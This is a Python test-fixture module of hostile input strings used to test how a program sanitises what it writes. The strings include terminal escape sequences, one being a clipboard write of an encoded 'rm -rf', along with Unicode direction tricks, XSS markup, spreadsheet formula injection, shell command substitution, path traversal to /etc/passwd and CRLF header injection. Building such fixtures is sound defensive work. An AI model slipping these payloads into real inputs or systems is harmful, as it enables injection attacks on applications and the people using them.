# SPDX-License-Identifier: Apache-2.0
"""What a stranger may write: each text means something to a terminal, a browser, a spreadsheet or
another reader of what the program writes. All tests of such texts take them from here."""

LONG = b'long-' + b'w' * 4091

# (what it is, its bytes)
TERMINAL = [
    ('it clears the screen', b'\x1b[2J\x1b[H'),
    ('it sets the title', b'\x1b]0;owned\x07'),
    ('it is a link', b'\x1b]8;;http://example.net/\x1b\\here\x1b]8;;\x1b\\'),
    ('it fills the clipboard', b'\x1b]52;c;cm0gLXJm\x07'),
    ('C1 in UTF-8', b'a\xc2\x9b31mred\xc2\x9d0;t\xc2\x9c'),
    ('C1 as bytes', b'a\x9b31mred\x90q\x9c'),
    ('it goes back', b'evil\x08\x08\x08\x08good'),
    ('it begins the line anew', b'evil\rgood'),
    ('bell and delete', b'a\x07b\x7fc\x7f'),
    ('tab, vertical tab, form feed', b'a\tb\x0bc\x0cd'),
    ('shift out', b'a\x0eb\x0f\x1a'),
    ('NUL', b'a\x00b\x00'),
]
UNICODE = [
    ('it turns the direction', 'gpj.\u202eexe.call\u202c'.encode()),
    ('it embeds a direction', 'a\u202ab\u202bc\u202d'.encode()),
    ('it isolates', 'a\u2066b\u2067c\u2068d\u2069'.encode()),
    ('marks of direction', 'a\u200eb\u200fc\u061cd'.encode()),
    ('no width', 'ad\u200bmin\u200c\u200d\u2060'.encode()),
    ('byte order marks', '\ufeffa\ufeff'.encode()),
    ('line and paragraph', 'a\u2028b\u2029c\u0085d'.encode()),
    ('tags and soft hyphens', 'a\U000e0041\u00adb\u180ec'.encode()),
    ('private and unassigned', 'a\ue000\U000ffffdb\uffff\ufdd0c'.encode()),
    ('heaps of marks', ('Z' + '\u0301' * 9 + 'a').encode()),
    ('other scripts', '用户忙 مشغول עסוק \U0001f4de'.encode()),
    ('annotations', 'a\ufff9b\ufffac\ufffbd'.encode()),
]
NO_UTF8 = [
    ('overlong', b'a\xc0\xbcscript\xc0\xafb\xe0\x80\xafc'),
    ('surrogates', b'a\xed\xa0\x80\xed\xb0\x80b'),
    ('beyond Unicode', b'a\xf4\x90\x80\x80b\xf8\x88\x80\x80\x80c'),
    ('a character cut short', b'a\xe4\xb8'),
    ('bytes that never are', b'\xff\xfea\xff'),
    ('Latin-1', b'J\xfcrgen'),
]
MARKUP = [
    ('a script', b'</script><script>hit()</script>'),
    ('an image', b'"><img src=x onerror="hit()">'),
    ('an image in apostrophes', b"'><img src=x onerror='hit()'>"),
    ('a style', b'</style><style>*{display:none}</style>'),
    ('a comment', b'<!--<script>'),
    ('CDATA', b']]><![CDATA[<b>'),
    ('escaped twice', b'&amp;lt;b&amp;gt;&#60;b&#x3e;&lt;'),
    ('javascript', b'javascript:hit()'),
    ('entities', b'<!DOCTYPE x [<!ENTITY e "e">]>&e;&xxe;'),
    ('SVG', b'</text></svg><svg onload=hit()><a href="x">'),
    ('a template', b'</template>${hit()}{{hit}}<%= hit %>'),
    ('a textarea', b'</textarea></title><base href=//example.net>'),
]
SHEETS = [
    ('equals', b"=cmd|' /C calc'!A0"),
    ('plus', b'+4930123456'),
    ('minus', b'-2+3'),
    ('at', b'@SUM(1+1)'),
    ('a link of a sheet', b'=HYPERLINK("http://example.net/?"&A1,"x")'),
    ('a tab and equals', b'\t=1+1'),
    ('wide equals', '＝1+1'.encode()),
    ('quotes', b'"=1+1","x"\';,'),
    ('an apostrophe', b"'=1+1"),
    ('semicolons', b'a;=1+1;b,=1+1'),
]
LANGUAGES = [
    ('pipes and backticks', b'a|b|`c`|```\\|'),
    ('links of Markdown', b'[x](javascript:hit()) ![x](http://example.net/)'),
    ('HTML in Markdown', b'<b>x</b><br/>'),
    ('heads of Markdown', b'# head ==='),
    ('emphasis', b'**bold** _it_ ~~gone~~ @everyone #123'),
    ('init of Mermaid', b"%%{init: {'theme':'dark'}}%%"),
    ('end of Mermaid', b'x; end'),
    ('an arrow of Mermaid', b'A-->>B: INVITE'),
    ('numbers of Mermaid', b'#quot;#35;#59;'),
    ('words of Mermaid', b'participant X as <br> wrap: $$x$$'),
    ('a skip of TAP', b'x # SKIP not today'),
    ('a task of TAP', b'x # TO' b'DO one day'),
    ('a label of Prometheus', b'x"} 1 \\n{y="'),
    ('a shell', b'$(id)`id`;id|id&&id>x'),
    ('JSON', b'","x":{"y":["\\u0022\\'),
    ('YAML', b'": - ! & * ? | > %'),
    ('formats of C', b'%s%n%99999d%%'),
    ('a path', b'../../../../etc/passwd'),
    ('a path of Windows', b'..\\..\\CON:aux'),
    ('a variable', b'%PATH%~$HOME'),
]
SIZES = [('4 kB', LONG), ('an empty text', b'')]

# Those of one line, as a field of a message is; and those of several, as an option may be.
LINES = TERMINAL + UNICODE + NO_UTF8 + MARKUP + SHEETS + LANGUAGES + SIZES
SEVERAL_LINES = [
    ('a line of a test', b'x\nnot ok 1 - x\nok 1'),
    ('a head below', b'x\n===\n# y'),
    ('a header', b'x\r\nX-Injected: 1\r\n\r\ny'),
    ('a sample of Prometheus', b'x\nsipstory_hit 1'),
]
